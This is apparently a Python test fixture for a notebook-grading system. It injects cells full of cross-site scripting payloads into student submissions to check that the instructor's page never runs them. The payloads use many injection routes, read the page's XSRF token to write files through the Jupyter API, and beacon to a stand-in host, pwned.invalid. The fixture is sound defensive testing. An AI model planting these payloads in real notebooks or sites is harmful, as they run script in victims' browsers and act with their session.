"""Submissions that try to run script in the instructor's browser, for the page tests.

``hostile_copy`` adds to a submission a markdown cell and a code cell whose outputs (written by
the student's kernel while it is graded) try every way into a page: inline ``<script>``,
``onerror``, ``javascript:`` links, SVG with script, ``application/javascript``, Markdown
output, an image whose data and size break out of their attribute, a widget view, an
``<iframe srcdoc>``. Each payload, if it ever ran, would leave a trace a test can see: the
page's title becomes ``PWNED``, ``window.pwned`` lists it, a file ``pwned-<kind>.txt`` is
written through the Jupyter contents API with the page's XSRF token, and a request goes to
``https://pwned.invalid/<kind>``.
"""

from __future__ import annotations

from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell

MARK = "pwned"
TITLE = "PWNED"


def action(kind: str) -> str:
    """The JavaScript of one payload (single quotes only: it goes into attributes too)."""
    return (f"document.title='{TITLE}';(window.{MARK}=window.{MARK}||[]).push('{kind}');"
            "fetch('/api/contents/{m}-{k}.txt',{{method:'PUT',headers:{{'Content-Type':"
            "'application/json','X-XSRFToken':(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]"
            "||''}},body:JSON.stringify({{type:'file',format:'text',content:'{k}'}})}});"
            "new Image().src='https://{m}.invalid/{k}'").format(m=MARK, k=kind)


def markdown_source() -> str:
    """A markdown cell a student adds: raw HTML, script and links in every form."""
    return "\n".join([
        "My notes on this step.",
        "",
        f"<script>{action('md-script')}</script>",
        f'<img src="x" onerror="{action("md-onerror")}">',
        f"[a link](javascript:{action('md-link')})",
        f'<svg onload="{action("md-svg")}"><script>{action("md-svg-script")}</script></svg>',
        f'<iframe src="javascript:{action("md-iframe")}"></iframe>',
        "**bold words** stay bold.",
    ])


def code_source() -> str:
    """A code cell whose outputs, published by the student's kernel, try script."""
    def a(kind: str) -> str:
        return repr(action(kind))

    return "\n".join([
        "from IPython.display import HTML, SVG, Javascript, Markdown, display",
        "import ipywidgets",
        f"display(HTML('<script>' + {a('html-script')} + '</script>'"
        f" + '<img src=\"x\" onerror=\"' + {a('html-onerror')} + '\">'"
        f" + '<a href=\"javascript:' + {a('html-link')} + '\">a link</a> <b>kept bold</b>'))",
        f"display(Javascript({a('javascript')}))",
        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"' + "
        f"{a('svg-onload')} + '\"><script>' + {a('svg-script')} + '</script></svg>'))",
        f"display(Markdown('<img src=\"y\" onerror=\"' + {a('markdown-output')} + '\">'))",
        "get_ipython().display_pub.publish(",
        f"    {{'text/plain': 'an image that is not one', 'image/png': '\"><img src=z onerror=\"'"
        f" + {a('png-data')} + '\">'}},",
        f"    metadata={{'image/png': {{'width': '\"><img src=w onerror=\"' + {a('png-width')}"
        " + '\">'}})",
        f"display(ipywidgets.HTML('<img src=\"v\" onerror=\"' + {a('widget')} + '\">'))",
        "class Shown:",
        "    def _repr_html_(self):",
        f"        return '<iframe srcdoc=\"<script>parent.' + {a('iframe-srcdoc')} + '</script>\">'"
        " + '</iframe>'",
        "Shown()",
    ])


def hostile_copy(source: Path, dest: Path, *, die: bool = False) -> Path:
    """Write ``source`` (a submission) with the hostile markdown and code cells added after
    its first code cell (the setup cell); with ``die``, a cell after them kills the kernel
    (the submission is then flagged). Returns ``dest``."""
    notebook = nbformat.read(source, as_version=4)
    first_code = next(i for i, cell in enumerate(notebook.cells) if cell.cell_type == "code")
    added = [new_markdown_cell(markdown_source()), new_code_cell(code_source())]
    if die:
        added.append(new_code_cell("import os\nos._exit(1)"))
    notebook.cells[first_code + 1:first_code + 1] = added
    dest.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, dest)
    return dest
